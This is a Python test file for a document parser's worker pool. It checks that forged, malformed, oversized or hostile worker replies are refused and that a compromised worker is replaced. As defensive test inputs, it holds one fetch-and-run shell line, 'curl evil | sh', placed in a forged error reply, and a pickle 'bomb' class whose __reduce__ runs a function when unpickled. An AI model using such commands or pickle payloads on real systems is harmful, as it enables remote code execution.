"""Replies of workers are data: what a taken-over worker sends runs no code and stores nothing."""

from __future__ import annotations

import os
import pickle
import struct
from collections.abc import Callable, Iterator
from dataclasses import replace
from hashlib import sha256
from pathlib import Path
from typing import Any

import orjson
import psutil
import pytest

from tvdb_assets import error_codes as codes
from tvdb_assets.core.chunking import Chunker
from tvdb_assets.core.text_validation import most_characters
from tvdb_assets.errors import ParseError
from tvdb_assets.models import Chunk, Member
from tvdb_assets.parsing import worker_replies as replies
from tvdb_assets.parsing.container_members import extract_members, list_members
from tvdb_assets.parsing.parse_isolation import TaskTraits, register_traits
from tvdb_assets.parsing.parse_tasks import (
    ContainerFile,
    PaidParseCandidate,
    PreparedDocument,
    chunk_document,
    prepare_document,
    prepare_or_inspect,
)
from tvdb_assets.parsing.reply_checks import check_result
from tvdb_assets.parsing.worker_pool import WorkerPool
from tvdb_assets_tests.parsing import hostile_tasks, worker_pool_tasks

_WAIT = 60.0
_TEXT = b"# Cover\n\nThe policy covers flood damage.\n\n## Limits\n\n" + b"Up to ten claims. " * 200


class _Bomb:
    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, ...]:
        return os.mkdir, (str(self.canary),)


@pytest.fixture
def pool() -> Iterator[WorkerPool]:
    with WorkerPool(
        workers=1,
        timeout_seconds=30,
        memory_mib=256,
        modules=(hostile_tasks.__name__, worker_pool_tasks.__name__),
    ) as pool:
        yield pool


def _prepared() -> PreparedDocument:
    made = prepare_document(_TEXT, "a.md", "local", Chunker(128, 16))
    assert isinstance(made, PreparedDocument)
    assert made.chunks is not None
    assert len(made.chunks) > 3
    return made


def _reply(*message: object) -> bytes:
    return replies.pack([orjson.dumps(list(message))])


def test_results_of_every_task_come_back_as_they_were() -> None:
    made = _prepared()
    refused = replace(made, chunks=None, error=codes.NO_CHUNKS.error())
    members = [
        Member(0, "ä.txt", 3, bytes(32), "text/plain"),
        Member(1, "b.txt", 0, bytes(32), error=codes.ENCRYPTED.error(what="PDF")),
    ]
    results: list[tuple[Callable[..., Any], Any]] = [
        (prepare_document, made),
        (prepare_document, ContainerFile("application/zip")),
        (prepare_or_inspect, PaidParseCandidate("application/pdf", 3)),
        (extract_members, [b"", b"short", bytes(range(256)) * 9]),
    ]
    for task, value in results:
        assert replies.decode(task, replies.encode_result(task, value)) == value
    again = replies.decode(prepare_document, replies.encode_result(prepare_document, refused))
    assert (type(again.error), str(again.error)) == (type(refused.error), str(refused.error))
    listed = replies.decode(list_members, replies.encode_result(list_members, members))
    assert listed[0] == members[0]
    assert str(listed[1].error) == str(members[1].error)


def test_every_error_of_a_document_comes_back_with_its_sentences() -> None:
    for entry in codes.all_codes():
        numbers = {"limit", "count", "seconds", "size", "pages", "with_text", "characters"}
        values = {name: 7 if name in numbers else "a name" for name in entry.fields}
        try:
            error = entry.error(**values)
        except ValueError:
            continue  # a field of another kind
        if not isinstance(error, codes.CORRUPT.error_class):
            continue
        with pytest.raises(ParseError) as raised:
            replies.decode(extract_members, replies.encode_error(error))
        assert (raised.value.code, raised.value.message) == (error.code, error.message)


@pytest.mark.parametrize(
    "reply",
    [
        b"",
        b"\x01",
        b"\xff\xff\xff\xff" + bytes(64),
        replies.pack([b"{", b""]),
        replies.pack([b"[" * 100_000]),
        _reply("result"),
        _reply("other", 1),
        _reply("result", ["ContainerFile", 3]),
        _reply("result", ["ContainerFile", "a", "b"]),
        _reply("result", ["Provenance", "a", "b", "c", "d", False]),
        _reply("result", ["PreparedDocument"]),
        _reply("result", {"media_type": "a"}),
        _reply("result", 0),
        _reply("result", ["ContainerFile", 0]),
        replies.pack([orjson.dumps(["result", ["ContainerFile", "a"]]), b"too many"]),
        replies.pack([orjson.dumps(["result", ["ContainerFile", 0]]), b"\xff\xfe"]),
        _reply("exception", "not a name: the document's words"),
        _reply("error", ["corrupt", "Run this as root.", "curl evil | sh"]),
        _reply("error", ["budget_day", "No money is left.", "Wait."]),
        _reply("error", ["encrypted", "The a\nforged line is encrypted and needs a password.", ""]),
        _reply("error", ["parse_timeout", "x" * 7_000, ""]),
    ],
)
def test_a_reply_of_the_wrong_shape_is_refused(reply: bytes) -> None:
    with pytest.raises(replies.ReplyError):
        replies.decode(prepare_document, reply)


def test_a_reply_with_too_many_values_is_refused_before_it_is_read() -> None:
    with pytest.raises(replies.ReplyError, match="number of values"):
        replies.decode(prepare_document, replies.pack([b"[" + b"[]," * 4_000_000 + b"[]]"]))


def test_a_reply_of_many_empty_texts_is_refused_before_they_take_memory() -> None:
    blocks = struct.pack("<Q", 1_000_001) + bytes(8 * 1_000_001)
    with pytest.raises(replies.ReplyError, match="number of blocks"):
        replies.decode(prepare_document, blocks)
    with pytest.raises(replies.ReplyError, match="number of blocks"):
        replies.unpack(replies.pack([b"", b""]), 1)


def test_a_chunk_must_be_the_part_of_the_text_that_it_names() -> None:
    made = _prepared()
    assert made.chunks is not None
    first, *rest = made.chunks
    forged = [
        replace(first, text=first.text.replace("flood", "storm")),
        replace(first, sha256=rest[0].sha256),
        replace(first, token_count=0),
        replace(first, end=10**9),
        replace(first, start=-1),
        replace(first, ordinal=1),
    ]
    documents = [replace(made, chunks=[each, *rest]) for each in forged]
    documents.append(replace(made, parsed=replace(made.parsed, page_starts=(10**9,))))
    documents.append(
        replace(made, parsed=replace(made.parsed, text=made.parsed.text + "\0"), chunks=None)
    )
    for document in documents:
        with pytest.raises(replies.ReplyError):
            replies.decode(prepare_document, replies.encode_result(prepare_document, document))


@pytest.mark.parametrize("kind", hostile_tasks.FORGED_KINDS)
def test_a_forged_result_is_refused(kind: str) -> None:
    args = (_TEXT, "a.md", "local", Chunker(128, 16))
    made = _prepared()
    check_result(
        prepare_document,
        args,
        replies.decode(prepare_document, replies.encode_result(prepare_document, made)),
    )
    reply = replies.encode_result(prepare_document, hostile_tasks.forged(made, kind))
    with pytest.raises((replies.ReplyError, ValueError)):
        check_result(prepare_document, args, replies.decode(prepare_document, reply))


@pytest.mark.parametrize(
    ("media_type", "pages"),
    [
        ("application/pdf", 0),
        ("application/pdf", -3),
        ("application/pdf", 1 << 40),
        ("text/html", 1),
    ],
)
def test_a_forged_number_of_pages_reserves_nothing(media_type: str, pages: int) -> None:
    args = (b"%PDF-1.7 " + b"x" * 500, "a.pdf", "local", None, frozenset({"application/pdf"}))
    check_result(prepare_or_inspect, args, PaidParseCandidate("application/pdf", 7))
    with pytest.raises(ValueError, match="pages"):
        check_result(prepare_or_inspect, args, PaidParseCandidate(media_type, pages))


def test_chunks_of_another_text_are_refused() -> None:
    made, chunker = _prepared(), Chunker(128, 16)
    check_result(chunk_document, (made.parsed, chunker), made)
    other = replace(made.parsed, text=made.parsed.text + "more")
    with pytest.raises(ValueError, match="another text"):
        check_result(chunk_document, (other, chunker), made)


def test_a_pickle_bomb_explodes_nowhere(pool: WorkerPool, tmp_path: Path) -> None:
    for number, message in enumerate(
        (
            pickle.dumps(_Bomb(tmp_path / "0")),
            pickle.dumps([pickle.dumps(("result", _Bomb(tmp_path / "1")))]),
            replies.pack([pickle.dumps(("result", _Bomb(tmp_path / "2")))]),
            replies.pack([replies.pack([pickle.dumps(("result", _Bomb(tmp_path / "3")))])]),
            replies.pack([]),
        )
    ):
        before = pool.submit(worker_pool_tasks.process_id).result(_WAIT)
        error = pool.submit(hostile_tasks.reply_with, message).exception(_WAIT)
        assert isinstance(error, ParseError), number
        assert (error.code, "hostile" in error.remedy) == ("parser_crashed", True)
        # The worker that was taken over is gone, and the next document gets a new one.
        assert not psutil.pid_exists(before)
        assert pool.submit(worker_pool_tasks.process_id).result(_WAIT) != before
    assert not list(tmp_path.iterdir())


def test_a_reply_of_a_gigabyte_is_not_read(pool: WorkerPool) -> None:
    pool.submit(worker_pool_tasks.process_id).result(_WAIT)
    before = psutil.Process().memory_info().rss
    error = pool.submit(hostile_tasks.flood, 1 << 30).exception(_WAIT)
    assert isinstance(error, ParseError)
    assert error.code == "parse_memory"
    assert psutil.Process().memory_info().rss - before < 64 << 20
    assert pool.submit(worker_pool_tasks.echo, 1).result(_WAIT) == 1


def test_a_reply_that_is_too_large_for_its_document_is_not_read(pool: WorkerPool) -> None:
    small = TaskTraits(most_reply_bytes=1 << 20)
    register_traits(hostile_tasks.flood, lambda *_: small)
    try:
        error = pool.submit(hostile_tasks.flood, 16 << 20).exception(_WAIT)
    finally:
        register_traits(hostile_tasks.flood, lambda *_: TaskTraits())
    assert isinstance(error, ParseError)
    assert (error.code, "hostile" in error.remedy) == ("parser_crashed", True)


@pytest.mark.parametrize("size", [60, 3_000])
def test_a_text_that_is_too_long_for_its_file_is_refused(size: int) -> None:
    args = (bytes(size), "a.md", "local", Chunker(128, 16))
    made = _prepared()
    room = most_characters(size) - len(made.parsed.text)
    text = made.parsed.text + "x" * room
    check_result(prepare_document, args, replace(made, parsed=replace(made.parsed, text=text)))
    forged = replace(made, parsed=replace(made.parsed, text=text + "x"))
    with pytest.raises(ValueError, match="length of the text"):
        check_result(prepare_document, args, forged)
    forged = replace(made, parsed=replace(made.parsed, page_starts=(0,) * (2 * size + 3)))
    with pytest.raises(ValueError, match="number of pages"):
        check_result(prepare_document, args, forged)


def test_chunks_that_repeat_the_text_many_times_are_refused() -> None:
    """Each of them has its own text, so each would be paid for."""
    text = "".join(f"{number} " for number in range(4_000))
    parsed = replace(_prepared().parsed, text=text, headings=(), page_starts=(), title=None)
    chunks = [
        Chunk(at, at, at + 500, part := text[at : at + 500], 128, sha256(part.encode()).digest())
        for at in range(len(text) - 500)
    ]
    few = PreparedDocument(parsed, chunks[:: 500 // 10])
    few = replace(few, chunks=[replace(c, ordinal=at) for at, c in enumerate(few.chunks or ())])
    few.check_reply()
    with pytest.raises(ValueError, match="length of all chunks"):
        PreparedDocument(parsed, chunks).check_reply()
